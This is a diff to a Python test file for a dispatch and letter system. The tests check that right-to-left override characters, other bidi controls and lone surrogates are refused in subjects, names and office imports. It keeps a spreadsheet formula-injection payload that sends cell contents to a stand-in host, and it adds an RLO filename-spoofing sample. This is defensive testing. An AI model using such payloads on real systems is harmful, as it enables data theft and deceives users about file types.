@@ -13,17 +13,28 @@ import pytest
 from openpyxl import Workbook, load_workbook
 
 from dispatch.clock import parse_moment
+from dispatch.directory import edit as directory_edit
 from dispatch.directory import offices
 from dispatch.extensions import db
+from dispatch.letters.source import (
+    LetterSourceError,
+    build_letter,
+    read_source,
+    source_from_json,
+    source_to_json,
+)
 from dispatch.models import DispatchRecipient, Organisation
 from dispatch.receipts import acknowledgements
 from dispatch.reporting import dashboard, evidence, exports, register
 from dispatch.text import (
     FORMULA_START,
     from_spreadsheet_text,
+    refused_characters,
+    refused_characters_message,
     spreadsheet_text,
     text_cells_only,
 )
+from tests.fixtures.letter_source import FRONT
 
 HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")'
 CONFIRMED_AT = parse_moment("2021-11-15T10:00:00+07:00")
@@ -130,3 +141,76 @@ def test_the_directory_export_quotes_formulas_and_imports_back_unchanged(seeded)
     db.session.expire_all()
     again = db.session.query(Organisation).filter_by(province_code="01").one()
     assert again.name == "-Sở Thông tin và Truyền thông thành phố Hà Nội"
+
+
+# --- characters refused in subjects and names ---------------------------------------------------
+
+RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: "Sở TTTT{RLO}fdp.exe" shows as "Sở TTTTexe.pdf"
+
+
+def test_bidi_controls_and_lone_surrogates_are_named():
+    assert refused_characters(f"a{RLO}b\u2066c{RLO}") == ["U+202E", "U+2066"]
+    assert refused_characters("\ud800") == ["U+D800"]
+    assert refused_characters("Sở Thông tin và Truyền thông (ĐBSCL) – 2021") == []
+    assert "U+202E" in refused_characters_message(RLO)
+    assert refused_characters_message("Hà Nội") is None
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [("subject", f"triển khai {RLO}fdp.exe"), ("issuing_agency", f"Cục{RLO} Tin học hoá")],
+)
+def test_a_letter_source_refuses_a_bidi_control_naming_the_field_and_line(
+    write_letter, letter_project, field, value
+):
+    front = FRONT.replace(
+        next(line for line in FRONT.splitlines() if line.startswith(f"{field}:")),
+        f"{field}: {value}",
+    )
+    folder = write_letter(front)
+    with pytest.raises(LetterSourceError) as caught:
+        build_letter(read_source(folder), letter_project)
+    message = str(caught.value)
+    assert "U+202E" in message and "letter.md:" in message and field in message
+
+
+def test_a_lone_surrogate_in_a_subject_sent_as_json_is_a_clear_error(write_letter, letter_project):
+    data = source_to_json(read_source(write_letter()))  # what the API and the web form post
+    data["meta"]["subject"] = "triển khai \ud800"
+    with pytest.raises(LetterSourceError, match="U\\+D800"):
+        build_letter(source_from_json(data), letter_project)
+
+
+def test_a_confirmer_name_with_a_bidi_control_is_refused_and_nothing_recorded(issued_dispatch):
+    dispatch = issued_dispatch()
+    hanoi = (
+        db.session.query(DispatchRecipient)
+        .filter_by(dispatch_id=dispatch.id, province_code="01")
+        .one()
+    )
+    with pytest.raises(acknowledgements.AcknowledgementError) as caught:
+        acknowledgements.acknowledge(
+            hanoi, f"Nguyễn Văn{RLO} Bình", "Văn thư", None, None, None, at=CONFIRMED_AT
+        )
+    assert set(caught.value.errors) == {"name"} and "U+202E" in caught.value.errors["name"]
+    db.session.rollback()
+    assert db.session.get(DispatchRecipient, hanoi.id).acknowledged_at is None
+
+
+def test_an_office_name_with_a_bidi_control_is_refused_by_import_and_form(seeded):
+    exported = offices.export_csv()
+    hostile = exported.replace("Sở Thông tin và Truyền thông thành phố Hà Nội", f"Sở{RLO} TTTT", 1)
+    with pytest.raises(offices.DirectoryImportError, match="U\\+202E"):
+        offices.import_csv(hostile, actor="quantri@thh.example", at=SEEN_AT)
+    db.session.rollback()
+
+    hanoi = db.session.query(Organisation).filter_by(province_code="01").one()
+    form = directory_edit.form_for(hanoi)
+    with pytest.raises(directory_edit.OfficeError) as caught:
+        directory_edit.update_office(
+            hanoi.id,
+            dataclasses.replace(form, name=f"Sở{RLO} TTTT"),
+            actor=None,
+            at=SEEN_AT,
+        )
+    assert "U+202E" in caught.value.errors["name"]
